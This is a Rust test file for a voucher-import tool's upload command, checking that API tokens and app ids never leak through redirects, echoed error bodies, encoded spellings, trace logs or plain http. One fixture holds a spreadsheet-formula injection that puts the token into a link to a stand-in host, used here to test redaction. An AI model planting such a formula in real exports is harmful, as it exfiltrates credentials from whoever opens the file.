//! Credentials never leak: a redirect to another host, a server that echoes the token and the
//! app id in every field it writes, plain http to another machine. Every output is searched.

use super::*;

/// Every text `upload` produced: stdout, stderr, and every file of the folder.
fn everything(dir: &tempfile::TempDir, output: &Output) -> String {
    let mut all = text(output);
    for entry in fs::read_dir(dir.path().join("out")).unwrap() {
        let path = entry.unwrap().path();
        if path.is_file() {
            all.push_str(&format!("\n--- {}\n", path.display()));
            all.push_str(&String::from_utf8_lossy(&fs::read(&path).unwrap()));
        }
    }
    all
}

fn assert_no_secret(dir: &tempfile::TempDir, output: &Output, scenario: &str) {
    let all = everything(dir, output).to_ascii_lowercase();
    for secret in [TOKEN, APP_ID] {
        assert!(
            !all.contains(&secret.to_ascii_lowercase()),
            "{scenario}: {secret} leaked:\n{}",
            everything(dir, output)
        );
    }
}

#[test]
fn a_redirect_is_never_followed_and_the_token_stays_home() {
    let other = Fake::start();
    for (scenario, on_post) in [("POST", true), ("poll", false)] {
        let dir = prepared();
        let fake = Fake::start();
        let location = format!("{}/v1/elsewhere?key=query-secret-1", other.url);
        let reply = Reply::with_header(302, "Location", &location, "");
        if on_post {
            fake.behaviour().posts.push_back(reply);
        } else {
            fake.behaviour().polls.push_back(reply);
        }
        let output = upload(&dir, &fake);
        assert_eq!(
            output.status.code(),
            Some(2),
            "{scenario}: {}",
            text(&output)
        );
        let err = stderr(&output);
        assert!(
            err.contains(&format!("{}/v1/elsewhere", other.url)),
            "{scenario}: {err}"
        );
        assert!(
            !err.contains("query-secret-1"),
            "{scenario}: the query is not shown: {err}"
        );
        assert!(
            err.contains("redirects are never followed"),
            "{scenario}: {err}"
        );
        assert!(other.log().is_empty(), "{scenario}: {:?}", other.log());
        if on_post {
            assert_eq!(state(&dir)["batches"][0]["status"], "unconfirmed");
        }
        assert_no_secret(&dir, &output, scenario);
    }
}

/// Sets a fake up for one scenario.
type Setup<'a> = Box<dyn Fn(&Fake) + 'a>;

#[test]
fn the_credentials_echoed_in_any_answer_reach_no_output() {
    let echo = format!(
        " (token {TOKEN}, app {APP_ID}, upper {})",
        TOKEN.to_uppercase()
    );
    let body = json!({"code": 0, "message": format!("echo{echo}"), "details": echo}).to_string();
    let mut scenarios: Vec<(String, Setup)> = Vec::new();
    for status in [401, 403, 404, 400, 413, 422, 500, 503] {
        let body = body.clone();
        scenarios.push((
            format!("POST answered {status}"),
            Box::new(move |f: &Fake| {
                f.behaviour()
                    .posts
                    .push_back(Reply::status(status, body.clone()))
            }),
        ));
    }
    let named: Vec<(&str, Setup)> = vec![
        (
            "garbled 200",
            Box::new(|f: &Fake| {
                f.behaviour()
                    .posts
                    .push_back(Reply::status(200, format!("not json{echo}")))
            }),
        ),
        (
            "id echoed",
            Box::new(|f: &Fake| {
                f.behaviour().posts.push_back(Reply::status(
                    202,
                    json!({"async_action_id": TOKEN}).to_string(),
                ))
            }),
        ),
        (
            "poll 500s",
            Box::new(|f: &Fake| {
                for _ in 0..10 {
                    f.behaviour()
                        .polls
                        .push_back(Reply::status(500, body.clone()));
                }
            }),
        ),
        (
            "status echoed",
            Box::new(|f: &Fake| {
                f.behaviour().polls.push_back(Reply::status(
                    200,
                    json!({"status": TOKEN, "progress": 1}).to_string(),
                ))
            }),
        ),
        (
            "message, reasons, codes and listed jobs",
            Box::new(|f: &Fake| {
                let mut b = f.behaviour();
                b.echo = Some(echo.clone());
                b.failed_rows.insert(
                "part-00001.csv".into(),
                vec![
                    json!({"code": "GC-0001", "row": 1, "reason": format!("bad{echo}")}),
                    json!({"code": TOKEN, "reason": format!("=HYPERLINK(\"http://x/?{TOKEN}\")")}),
                ],
            );
                b.failing.insert("part-00002.csv".into());
                b.posts.push_back(Reply::Normal);
                b.posts.push_back(Reply::Normal);
                b.posts.push_back(Reply::ActThenDrop);
            }),
        ),
        (
            "failed result as text",
            Box::new(|f: &Fake| {
                let mut b = f.behaviour();
                b.failing.insert("part-00001.csv".into());
                b.results
                    .insert("part-00001.csv".into(), json!(format!("broken{echo}")));
            }),
        ),
    ];
    scenarios.extend(
        named
            .into_iter()
            .map(|(name, setup)| (name.to_owned(), setup)),
    );
    for (scenario, setup) in scenarios {
        let scenario = scenario.as_str();
        let dir = prepared();
        let fake = Fake::start();
        setup(&fake);
        let output = upload_command(&dir, &fake, TOKEN)
            .args(["--json", "--retries", "1"])
            .output()
            .unwrap();
        assert_no_secret(&dir, &output, scenario);
        assert!(
            everything(&dir, &output).contains("[redacted]"),
            "{scenario}: the echo was seen and redacted:\n{}",
            everything(&dir, &output)
        );
    }
}

#[test]
fn plain_http_to_another_machine_is_refused_unless_allowed_with_a_warning() {
    let dir = prepared();
    let output = base_command(&dir, "http://api.voucherify.io", TOKEN)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2), "{}", text(&output));
    assert!(stderr(&output).contains("unencrypted"), "{}", text(&output));
    assert!(
        stderr(&output).contains("--allow-insecure-http"),
        "{}",
        text(&output)
    );
    assert!(!out(&dir).join("upload.json").exists(), "nothing was done");

    let allowed = Command::new(BIN)
        .args(["upload", &out(&dir).display().to_string()])
        .args([
            "--campaign",
            CAMPAIGN,
            "--api-url",
            "http://api.voucherify.io",
        ])
        .args(["--allow-insecure-http", "--dry-run"])
        .output()
        .unwrap();
    assert_eq!(allowed.status.code(), Some(0), "{}", text(&allowed));
    assert!(
        stderr(&allowed).starts_with("warning: --allow-insecure-http"),
        "{}",
        text(&allowed)
    );
}

#[test]
fn no_options_type_shows_a_credential_when_formatted() {
    use voucher_import::upload::{
        ApiSettings, CanaryMode, OnMismatch, Secret, UploadOptions, VerifyCount,
    };
    let api = ApiSettings {
        base_url: "https://api.voucherify.io".into(),
        app_id: APP_ID.into(),
        app_token: TOKEN.into(),
        max_retries: 1,
        retry_base: Duration::from_millis(1),
        max_retry_after: Duration::from_secs(1),
        http_timeout: Duration::from_secs(1),
    };
    let options = UploadOptions {
        cancel: voucher_import::Cancel::new(),
        dir: "out".into(),
        campaign: CAMPAIGN.into(),
        api: api.clone(),
        allow_insecure_http: false,
        dry_run: false,
        parallel: 1,
        poll_first: Duration::from_millis(1),
        poll_max: Duration::from_millis(1),
        job_timeout: Duration::from_secs(1),
        repost_unconfirmed: false,
        adopt: Vec::new(),
        verify: VerifyCount::Sample(20),
        canary: CanaryMode::Auto,
        on_mismatch: OnMismatch::Stop,
        accept_mismatches: false,
        api_budget: None,
        api_reserve: None,
        verify_only: false,
        refresh_existing: false,
    };
    let secret = Secret::from(TOKEN);
    for shown in [
        format!("{api:?}"),
        format!("{api:#?}"),
        format!("{options:?}"),
        format!("{options:#?}"),
        format!("{secret:?}"),
        format!("{secret}"),
    ] {
        assert!(
            !shown.contains(TOKEN) && !shown.contains(APP_ID),
            "a credential shown: {shown}"
        );
        assert!(shown.contains("redacted"), "{shown}");
    }
    assert_eq!(secret.expose(), TOKEN, "the one place that sends it");
}

#[test]
fn rust_log_trace_of_every_target_never_shows_a_credential() {
    let dir = prepared();
    let fake = Fake::start();
    let output = upload_command(&dir, &fake, TOKEN)
        .env(
            "RUST_LOG",
            "trace,=trace,ureq=trace,ureq_proto=trace,rustls=trace",
        )
        .args(["-v"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0), "{}", text(&output));
    let err = stderr(&output);
    assert!(
        err.contains("DEBUG ureq"),
        "the HTTP libraries' log was on: {err}"
    );
    assert!(
        !err.lines().any(|l| l.contains("TRACE ureq_proto")),
        "no hex dump of the request head"
    );
    let hex = |s: &str| s.bytes().map(|b| format!("{b:02x}")).collect::<String>();
    let joined: String = err
        .to_ascii_lowercase()
        .chars()
        .filter(|c| !c.is_whitespace())
        .collect();
    for secret in [TOKEN, APP_ID] {
        for spelling in [
            secret.to_owned(),
            hex(secret),
            // Hex rows group two bytes, so look for every 4-byte window too.
            hex(&secret[..4]),
        ] {
            assert!(
                !joined.contains(&spelling.to_ascii_lowercase()),
                "{secret} as {spelling} in the log:\n{err}"
            );
        }
    }
}

#[test]
fn the_token_echoed_in_any_spelling_reaches_no_output() {
    // Encoders of the test's own: base64 (the token behind 0-2 other bytes), hex, every byte
    // percent-encoded, \u escapes, HTML entities.
    fn base64(data: &[u8]) -> String {
        const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut out = String::new();
        for group in data.chunks(3) {
            let b = [
                group[0],
                *group.get(1).unwrap_or(&0),
                *group.get(2).unwrap_or(&0),
            ];
            let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
            for (i, shift) in [18, 12, 6, 0].into_iter().enumerate() {
                out.push(if i <= group.len() {
                    A[((n >> shift) & 63) as usize] as char
                } else {
                    '='
                });
            }
        }
        out
    }
    let each = |f: &dyn Fn(u8) -> String| TOKEN.bytes().map(f).collect::<String>();
    let mut spellings = vec![
        ("hex", each(&|b| format!("{b:02x}"))),
        ("HEX", each(&|b| format!("{b:02X}"))),
        ("percent every byte", each(&|b| format!("%{b:02X}"))),
        ("\\u escapes", each(&|b| format!("\\u{b:04x}"))),
        ("html decimal", each(&|b| format!("&#{b};"))),
        ("html hex", each(&|b| format!("&#x{b:x};"))),
    ];
    for prefix in ["", "x", "xy"] {
        let encoded = base64(format!("{prefix}{TOKEN}.").as_bytes());
        spellings.push(("base64", encoded.clone()));
        spellings.push(("base64url", encoded.replace('+', "-").replace('/', "_")));
    }
    for (name, echo) in spellings {
        let dir = prepared();
        let fake = Fake::start();
        fake.behaviour().posts.push_back(Reply::status(
            400,
            format!("bad request, you sent {echo} ok"),
        ));
        let output = upload_command(&dir, &fake, TOKEN)
            .args(["--json", "--retries", "1"])
            .output()
            .unwrap();
        let all = everything(&dir, &output);
        assert!(!all.contains(&echo), "{name}: {echo} leaked:\n{all}");
        assert!(
            all.contains("[redacted]"),
            "{name}: the echo was seen:\n{all}"
        );
    }
}

#[test]
fn a_credential_holding_a_newline_is_refused_before_any_request_naming_its_variable() {
    let dir = prepared();
    let fake = Fake::start();
    let output = upload_command(&dir, &fake, &format!("{TOKEN}\n"))
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2), "{}", text(&output));
    assert!(fake.log().is_empty(), "nothing was sent");
    let err = stderr(&output);
    assert!(
        err.contains("VOUCHERIFY_APP_TOKEN holds a line break"),
        "{err}"
    );
    assert!(!err.contains(TOKEN), "{err}");
    assert!(!err.contains("check the network"), "{err}");
}
